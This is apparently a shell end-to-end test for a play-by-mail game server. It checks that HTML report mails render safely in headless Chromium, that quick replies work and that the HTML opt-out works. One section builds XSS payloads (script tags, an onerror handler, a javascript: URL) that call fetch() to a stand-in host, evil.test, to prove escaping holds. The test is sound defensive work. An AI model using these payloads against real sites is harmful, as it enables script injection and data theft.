#!/bin/sh
# slow: yes
# asan: no
# The HTML alternative of the mails with a view, where players read it.
# Games of every engine with the default (HTML on): each report's HTML part
# passes an independent check (tests/e2e/html_mail.py: Python's email and HTML
# parsers: only plain tags, no script, no handler, no remote source, the
# picture is the mail's own PNG part by cid:, the links go to the seat's
# reply address, every word shown is in the text part) and libxml2's HTML
# parser; headless Chromium renders each at 360 and 1200 px with no
# sideways scroll, the picture shown, no console message and no request
# off the machine. Hostile text in every field the HTML copies in stays
# text (the detector is shown to detect on an unescaped page). A quick
# reply's body, sent from the seat's address to the link's address, is
# accepted. HTML NO turns it off for that seat alone; html=off (at
# creation, or OPCION of the game master) sends text alone.
. tests/e2e/lib.sh

command -v chromium > /dev/null 2>&1 || tests/install-deps.sh chromium fonts-dejavu-core > /dev/null 2>&1 || true
BROWSER=$(command -v chromium || command -v chromium-browser || true)
if [ -z "$BROWSER" ] || ! command -v xmllint > /dev/null 2>&1; then
	echo "html_mail: skipped: chromium or xmllint is not installed"
	exit 77
fi
H=$T/html
mkdir -p "$H"

kinds="catan teg reconquista kratos nuevo-mundo"
for k in $kinds; do
	g=$(printf '%s' "$k" | tr -d -)
	es new "$k" "$g" --seed 5e --insecure-seed --player ana:ana@x.test:pw-ana --player berta:berta@x.test:pw-berta \
		--player carla:carla@x.test:pw-carla:en > /dev/null || fail "new $k with the default"
done
# A game with html=off: text alone.
es new catan plano --seed 5e --insecure-seed --player ana:ana@x.test:pw-ana --player berta:berta@x.test:pw-berta \
	--player carla:carla@x.test:pw-carla --set html=off > /dev/null
step_run
for k in $kinds; do
	g=$(printf '%s' "$k" | tr -d -)
	bot_rounds "$g" 1
done
# Catan past its set-up (six placements): the first roll is awaited.
bot_rounds catan 6
# Text alone from the game with html=off.
grep -l '^X-Estafeta-Game: plano' "$D/outbox/new"/* > "$T/plano"
[ -s "$T/plano" ] || fail "no mail of the game with html=off"
xargs grep -l '^Content-Type: text/html' < "$T/plano" > "$T/x" && fail "a game with html=off sent HTML"
# The newest mail with a view (a picture) to each seat of each game: its
# HTML part checked.
: > "$T/newest"
for k in $kinds; do
	g=$(printf '%s' "$k" | tr -d -)
	for p in ana berta carla; do
		grep -l "^X-Estafeta-Game: $g" $(grep -l '^Content-Type: image/png' $(grep -l "^To: .*<$p@x.test>" "$D/outbox/new"/*)) |
			tail -1 >> "$T/newest"
	done
done
n=$(xargs grep -l '^Content-Type: text/html' < "$T/newest" | wc -l)
[ "$(wc -l < "$T/newest")" -eq 15 ] && [ "$n" -eq 15 ] || fail "$n of the 15 newest reports carry HTML"
xargs python3 tests/e2e/html_mail.py "$H" < "$T/newest" > "$T/pages" || fail "the HTML check"
[ "$(wc -l < "$T/pages")" -eq "$n" ] || fail "checked $(wc -l < "$T/pages") of $n HTML parts"
cut -f1 "$T/pages" | while read -r p; do
	xmllint --html --noout "$p" 2> "$T/xl" || true
	[ ! -s "$T/xl" ] || { cat "$T/xl" >&2; fail "libxml2 finds $p malformed"; }
done
# The text part is what it was: the same words as a text-only mail's.
grep -q '^Content-Type: multipart/related; type="multipart/alternative"' "$(grep -l 'X-Estafeta-Game: catan' "$D/outbox/new"/* | head -1)" ||
	fail "the picture is not shared by the text and the HTML"

# Hostile input in every field: the text, the subject, the alt text, the
# quick block's heading and orders (tests/tools/htmlrender).
evil='<script>fetch("http://evil.test/s")</script>"><img src=http://evil.test/i onerror=fetch("http://evil.test/e")>'
printf 'Turno 3 %s\n\n  | %s | board\njavascript:fetch("http://evil.test/j")\n=?utf-8?q?=3Cscript=3Efetch(1)=3C/script=3E?=\n' \
	"$evil" "$evil" |
	"$TOOLS/htmlrender" "[g] $evil" "alt $evil" 'juez+g.0.ab@estafeta.test' "Respuestas $evil" "PASO $evil" > "$H/evil.html"
cp "$(ls "$H"/m*-*.png | head -1)" "$H/pic.png"
sed -i 's/src="cid:pic@x.test"/src="pic.png"/' "$H/evil.html"
grep -c 'evil.test' "$H/evil.html" > /dev/null || fail "the hostile page lost its text"
# The detector detects: the same words unescaped do run and do call out.
printf '<!DOCTYPE html><html><body>%s</body></html>\n' "$evil" > "$H/control.html"

# One page of frames at each width: each frame's width, scroll width, its
# pictures loaded, the elements and attributes the browser built beyond
# the plain ones the HTML uses (a tag or handler smuggled in by text);
# the net log records every request.
probe() { # WIDTH PAGES...
	w=$1
	shift
	{
		printf '<!DOCTYPE html><html><body style="margin:0"><pre id="r"></pre>\n'
		for p in "$@"; do printf '<iframe src="%s" style="width:%spx;height:600px;border:0"></iframe>\n' "${p##*/}" "$w"; done
		cat <<'JS'
<script>window.onload = function () {
  var out = [];
  document.querySelectorAll('iframe').forEach(function (f) {
    var d = f.contentDocument.documentElement, im = f.contentDocument.images, ok = im.length;
    for (var i = 0; i < im.length; i++) if (!im[i].complete || im[i].naturalWidth < 100 || im[i].width > d.clientWidth) ok = -1;
    var tags = ' HTML HEAD META TITLE BODY DIV IMG PRE H2 P BR A TABLE TBODY TR TD ', attrs = ' lang charset name content style src alt href ';
    var bad = 0, all = f.contentDocument.getElementsByTagName('*');
    for (var j = 0; j < all.length; j++) {
      if (tags.indexOf(' ' + all[j].tagName + ' ') < 0) bad++;
      for (var a = 0; a < all[j].attributes.length; a++) if (attrs.indexOf(' ' + all[j].attributes[a].name + ' ') < 0) bad++;
    }
    out.push(f.getAttribute('src') + ' ' + d.scrollWidth + ' ' + d.clientWidth + ' ' + ok + ' ' + bad);
  });
  document.getElementById('r').textContent = out.join('\n');
};</script></body></html>
JS
	} > "$H/probe.html"
	"$BROWSER" --headless --no-sandbox --disable-gpu --user-data-dir="$T/chromium" --window-size=1400,900 \
		--allow-file-access-from-files --enable-logging=stderr --v=0 --log-net-log="$T/net-$w.json" \
		--virtual-time-budget=8000 --dump-dom "file://$H/probe.html" 2> "$T/console-$w" > "$T/probe-$w"
}
pages=$(cut -f1 "$T/pages" | tr '\n' ' ')
for w in 360 1200; do
	# shellcheck disable=SC2086
	probe "$w" $pages "$H/evil.html"
	sed -n '/<pre id="r">/,/<\/pre>/p' "$T/probe-$w" | sed 's/<[^>]*>//g' | grep . > "$T/res-$w" || true
	[ "$(wc -l < "$T/res-$w")" -eq $((n + 1)) ] || { cat "$T/res-$w" >&2; fail "the probe at $w px saw $(wc -l < "$T/res-$w") pages"; }
	while read -r page sw cw imgs bad; do
		[ "$bad" = 0 ] || fail "$page: $bad elements or attributes beyond plain HTML in the browser's document"
		[ "$cw" -ge $((w - 20)) ] && [ "$cw" -le "$w" ] || fail "$page: frame $cw px wide at $w"
		[ "$sw" -le "$cw" ] || fail "$page: at $w px the page is $sw px wide (scrolls sideways)"
		[ "$imgs" -ge 1 ] || fail "$page: its picture is not shown at $w px"
	done < "$T/res-$w"
	grep -q 'evil.test' "$T/net-$w.json" && fail "a request off the machine at $w px"
	grep -q 'CONSOLE' "$T/console-$w" && { cat "$T/console-$w" >&2; fail "console messages at $w px"; }
done
"$BROWSER" --headless --no-sandbox --disable-gpu --user-data-dir="$T/chromium" --log-net-log="$T/net-c.json" \
	--virtual-time-budget=3000 --dump-dom "file://$H/control.html" > /dev/null 2>&1 || true
grep -q 'evil.test' "$T/net-c.json" || fail "the request detector does not see the unescaped page's requests"

# A quick reply, sent back: accepted. The link of the seat awaited in catan.
w=$(status_of catan waiting | cut -d' ' -f1)
f=$(grep -l "^X-Estafeta-Game: catan" $(grep -l '^Content-Type: image/png' $(grep -l "^To: .*<$w@x.test>" "$D/outbox/new"/*)) | tail -1)
line=$(python3 tests/e2e/html_mail.py "$H" "$f")
body=$(printf '%s' "$line" | cut -f2)
[ -n "$body" ] || fail "the report to the awaited $w has no quick reply"
to=$(sed -n 's/^Reply-To: <\(.*\)>$/\1/p' "$f")
case $to in juez+catan.*@estafeta.test) ;; *) fail "the link goes to $to" ;; esac
mkdir -p "$D/inbox/new" "$D/inbox/cur" "$D/inbox/tmp"
h0=$(head_of catan)
{ printf 'From: <%s@x.test>\nTo: <%s>\nMessage-ID: <quick@t>\nSubject: Re\nContent-Type: text/plain; charset=utf-8\n\n' "$w" "$to"
	cat "$body"; } > "$D/inbox/new/$(date -u -d "$NOW" +%s).quick"
step_run
[ "$(head_of catan)" != "$h0" ] || fail "the quick reply made no batch"
git -C "$D/games/catan" diff "$h0" HEAD --stat -- state/ | grep -q . || fail "the quick reply changed nothing"
ok="Órdenes aceptadas"
[ "$w" != carla ] || ok="Orders accepted"
assert_contains "$(confirm_to "$w@x.test")" "$ok" "the quick reply accepted"

# HTML NO: that seat's mails are text alone, the others' keep HTML.
printf 'HTML NO\n' | envelope teg ana pw-ana | send plain ana@x.test "off@t"
step_run
assert_contains "$(confirm_to ana@x.test)" "Tus informes irán solo en texto" "HTML NO confirmed"
bot_rounds teg 2
fa=$(grep -l "^X-Estafeta-Game: teg" $(grep -l '^To: .*<ana@x.test>' "$D/outbox/new"/*) | tail -1)
fb=$(grep -l "^X-Estafeta-Game: teg" $(grep -l '^To: .*<berta@x.test>' "$D/outbox/new"/*) | tail -1)
grep -q '^Content-Type: text/html' "$fa" && fail "HTML NO: ana still gets HTML"
grep -q '^Content-Type: text/html' "$fb" || fail "HTML NO of ana turned berta's off"
git -C "$D/games/teg" show HEAD:meta/game.txt | grep -q '^html-off 1$' || fail "HTML NO not kept"

# The core's quick replies, each link's body sent back from the seat's
# address to the link's address: taking back the seat the bot plays
# (bot_after=1, a deadline missed), offered to that seat alone; the draw
# vote, offered to a seat not awaited, in its language.
es new reconquista rb --seed 0b --insecure-seed --set deadline_hours=3 --set reminder_hours=0 --set bot_after=1 \
	--player ana:ana@x.test:pw-ana --player berta:berta@x.test:pw-berta --player carla:carla@x.test:pw-carla:en \
	> /dev/null
w=$(status_of rb waiting | cut -d' ' -f1)
# Past rb's deadline alone (the other games' are days away).
now_plus 4
es run > /dev/null
[ "$(status_of rb robot)" = "$w" ] || fail "the bot does not play $w"
# send_back SEAT MAIL K: the K-th link's body of MAIL, from SEAT.
send_back() {
	sb=$(python3 tests/e2e/html_mail.py "$H" "$2" | cut -f$(($3 + 1)))
	[ -n "$sb" ] || fail "$1's mail $2 has no link $3"
	{ printf 'From: <%s@x.test>\nTo: <%s>\nMessage-ID: <back-%s-%s@t>\nSubject: Re\n' "$1" \
		"$(sed -n 's/^Reply-To: <\(.*\)>$/\1/p' "$2")" "$1" "$3"
		printf 'Content-Type: text/plain; charset=utf-8\n\n'
		cat "$sb"; } > "$D/inbox/new/$(date -u -d "$NOW" +%s).back-$1"
}
newest_view() { grep -l "^X-Estafeta-Game: $1" $(grep -l '^Content-Type: text/html' $(grep -l "^To: .*<$2@x.test>" "$D/outbox/new"/*)) | tail -1; }
for p in ana berta carla; do
	links=$(python3 tests/e2e/html_mail.py "$H" "$(newest_view rb $p)" | awk -F'\t' '{print NF - 1}')
	if [ "$p" = "$w" ]; then
		[ "$links" = 1 ] || fail "$p, played by the bot, is offered $links replies, not one"
		send_back "$p" "$(newest_view rb $p)" 1
		grep -qx 'ROBOT NO' "$sb" || grep -qx 'BOT OFF' "$sb" || fail "$p's reply is not to take the seat back"
	else
		v=$p
	fi
done
step_run
[ -z "$(status_of rb robot)" ] || fail "the quick reply did not take the seat back from the bot"
f=$(newest_view rb "$v")
n=$(python3 tests/e2e/html_mail.py "$H" "$f" | awk -F'\t' '{print NF - 1}')
send_back "$v" "$f" "$n"
case $v in carla) want=DRAW ok="Your draw vote is recorded" ;; *) want=EMPATE ok="Tu voto de empate queda anotado" ;; esac
grep -qx "$want" "$sb" || fail "$v's last reply is not the draw vote: $(cat "$sb")"
step_run
assert_contains "$(confirm_to "$v@x.test")" "$ok" "the draw vote from a quick reply accepted"
git -C "$D/games/rb" show HEAD:meta/game.txt | grep -q '^draw-votes [1-7]$' || fail "the vote is not kept"
echo "html_mail: ok"
